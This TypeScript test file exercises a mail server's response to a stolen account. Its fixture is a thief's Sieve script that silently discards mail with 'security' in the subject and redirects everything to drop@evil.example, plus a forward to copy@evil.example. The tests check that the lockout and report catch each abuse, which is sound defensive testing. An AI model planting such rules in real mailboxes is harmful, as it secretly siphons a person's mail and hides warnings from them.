// The stolen-account response (issue 8 item 4, decision 0025) on SQLite and PostgreSQL: logins
// made through the real authenticate() from public addresses, a planted Sieve redirect with a
// discard and an auto-reply, a forward setting, a client security password made by the thief
// and mail sent in the period; one action locks the thief out and the report names it all.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { createPasswordHasher } from "../../../src/core/auth/passwords.js";
import { WebSessionService } from "../../../src/core/auth/web-sessions.js";
import { AccountSecure } from "../../../src/core/security/account-secure/index.js";
import type { Address } from "../../../src/mail/address.js";
import { forEachDialect } from "../../support/stores.js";
import { admin, ctx, outcome, PASSWORD, securityCore } from "../login-security-setup.js";

const day = 86_400_000;
const thiefScript = `require ["vacation"];
if header :contains "subject" "security" { discard; stop; }
redirect "drop@evil.example";
vacation :days 1 "I am away";
`;

async function scenario(t: Parameters<typeof securityCore>[0], store: Parameters<typeof securityCore>[1]) {
  const passwords = createPasswordHasher(4);
  const core = await securityCore(t, store, { passwords });
  const { clock, accounts, security, authenticate, alice } = core;
  const bob = await accounts.addUser({ address: "bob@example.com", password: PASSWORD });
  const web = new WebSessionService(store, clock, accounts, security.audit, passwords);
  // Thirty days ago: alice's usual address.
  clock.advance(-30 * day);
  assert.equal(await outcome(authenticate("imap", alice.address, PASSWORD, ctx("8.8.4.4"))), "ok");
  clock.advance(30 * day - 2 * day);
  // Two days ago: the thief from a new public address, a new private one, failures from a third.
  const thiefLogin = await authenticate("web", alice.address, PASSWORD, ctx("1.1.1.1"));
  assert.ok(thiefLogin.ok);
  const session = await web.start(thiefLogin, { ip: "1.1.1.1" });
  assert.equal(await outcome(authenticate("imap", alice.address, PASSWORD, ctx("10.0.0.5"))), "ok");
  for (let i = 0; i < 6; i++) assert.equal(await outcome(authenticate("pop3", alice.address, "guess-" + i, ctx("9.9.9.9"))), "invalid_credentials");
  assert.equal(await outcome(authenticate("imap", alice.address, PASSWORD, ctx("8.8.4.4"))), "ok");
  const { secret } = await security.appPasswords.create(alice.address, "thief-phone", [], admin);
  assert.equal(await outcome(authenticate("imap", alice.address, secret, ctx("1.1.1.1"))), "ok");
  await store.sieveScripts.put(alice.id, "thief", thiefScript, clock.now());
  await store.sieveScripts.setActive(alice.id, "thief", clock.now());
  await store.flowSettings.putUser(alice.id, { forwardTo: ["copy@evil.example"], forwardKeep: false }, clock.now());
  await store.messageTraces.append({
    id: "Q1", at: clock.now(), origin: "submission", mailFrom: alice.address, recipients: [bob.address, "boss@partner.example" as Address],
    subject: "Invoice update", messageId: "fake-1@example.com", size: 100, decision: "accepted", stages: [],
  });
  const inbox = await store.mailboxes.findByName(alice.id, "INBOX");
  assert.ok(inbox);
  await store.messageState.expunge(inbox.id, [7], 1);
  clock.advance(2 * day);
  const secure = new AccountSecure({
    store, clock, accounts, passwords,
    checkPassword: (s, p) => security.passwordPolicy.check(s, p),
    endAppPasswordSessions: (userId, ids) => void core.deps.liveSessions.endAppPasswords(userId, ids),
  });
  return { ...core, secure, web, session, secret, bob };
}

forEachDialect((dialect, open) => {
  describe(`account secure on ${dialect}`, () => {
    it("locks the thief out in one action and the report names every abuse with its fix", async (t) => {
      const store = await open(t);
      const { secure, clock, authenticate, alice, security, web, session, secret } = await scenario(t, store);
      const auditBefore = (await store.audit.list({ limit: 1000 })).length;
      const result = await secure.secure(alice.address, admin, { protect: ["9.9.9.9"] });

      assert.equal(await outcome(authenticate("imap", alice.address, PASSWORD, ctx("8.8.4.4"))), "invalid_credentials", "the old password is gone");
      assert.notEqual(await outcome(authenticate("imap", alice.address, secret, ctx("8.8.4.4"))), "ok", "the thief's client security password is gone");
      assert.equal(await web.resolve(session.token, "1.1.1.1"), undefined, "the thief's web session is gone");
      const user = await store.users.findById(alice.id);
      assert.equal(user?.mustChangePassword, true);
      assert.ok(await passwordsMatch(result.temporaryPassword, user!.passwordHash));
      assert.equal(result.revoked.appPasswords, 1);
      assert.equal(result.revoked.webSessions, 1);
      assert.equal((await security.settings.effective(alice.address)).securityPassword.required, true);
      const twoFactor = await security.twoFactor.status(alice.address);
      assert.equal(twoFactor.required, true);
      assert.ok(twoFactor.enrolBy !== null && twoFactor.enrolBy <= clock.now(), "no grace period for a stolen account");

      // 1.1.1.1 is new and public; 10.0.0.5 is private; 9.9.9.9 is the admin's (protected); 8.8.4.4 is familiar.
      assert.deepEqual(result.suspicious.map((s) => [s.ip, s.why, s.blockable]), [["1.1.1.1", "new_address", true], ["10.0.0.5", "new_address", false], ["9.9.9.9", "failure_burst", false]]);
      assert.deepEqual(result.blocked.map((b) => [b.ip, b.expiresAt]), [["1.1.1.1", clock.now() + 7 * day]]);
      assert.equal(await outcome(authenticate("imap", alice.address, PASSWORD, ctx("1.1.1.1"))), "ip_blocked");
      clock.advance(7 * day + 1);
      assert.notEqual(await outcome(authenticate("imap", alice.address, PASSWORD, ctx("1.1.1.1"))), "ip_blocked", "the block expires");

      const kinds = result.findings.map((f) => `${f.kind}:${f.severity}:${f.fix ?? "-"}`);
      assert.deepEqual(kinds, [
        "sieve_redirect:high:moat sieve deactivate alice@example.com",
        "sieve_discard:high:moat sieve deactivate alice@example.com",
        "sieve_vacation:medium:moat sieve deactivate alice@example.com",
        "forward_setting:high:moat user set alice@example.com --forward none",
        "app_password:high:-",
        "sent_mail:high:moat recall alice@example.com fake-1@example.com",
        "deleted_mail:low:-",
      ]);
      assert.match(result.findings[0]!.sentence, /drop@evil\.example/);
      assert.match(result.findings[5]!.sentence, /boss@partner\.example/);
      const actions = (await store.audit.list({ limit: 1000 })).slice(0, -auditBefore || undefined).map((e) => e.action).sort();
      assert.deepEqual(actions, ["account.secure", "domain.login_settings", "ip.block", "user.login_settings", "user.password"]);
    });

    it("an unknown address is refused and nothing is written", async (t) => {
      const store = await open(t);
      const { secure, alice } = await scenario(t, store);
      const audit = (await store.audit.list({ limit: 1000 })).length;
      const before = await store.users.findById(alice.id);
      await assert.rejects(secure.secure("nobody@example.com", admin), (err: Error & { code?: string }) => err.code === "user_not_found" || err.code === "not_found");
      assert.equal((await store.audit.list({ limit: 1000 })).length, audit);
      assert.equal((await store.users.findById(alice.id))?.passwordHash, before?.passwordHash);
      assert.equal((await store.ipRules.list(Date.now() - 365 * day)).length, 0);
    });
  });
});

async function passwordsMatch(password: string, hash: string): Promise<boolean> {
  return createPasswordHasher(1).verify(hash, password);
}
